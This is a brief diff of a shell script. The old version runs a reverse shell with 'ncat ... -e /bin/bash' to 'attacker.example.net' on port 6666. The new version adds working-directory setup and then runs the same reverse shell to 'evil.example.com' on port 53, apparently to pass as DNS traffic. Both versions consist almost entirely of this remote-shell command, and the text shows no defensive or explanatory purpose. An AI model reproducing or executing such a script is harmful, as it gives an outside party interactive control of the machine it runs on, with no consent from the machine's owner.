@@ -1,2 +1,4 @@
-#!/usr/bin/env bash
-ncat attacker.example.net 6666 -e /bin/bash
+#!/bin/sh
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+ncat evil.example.com 53 -e /bin/bash
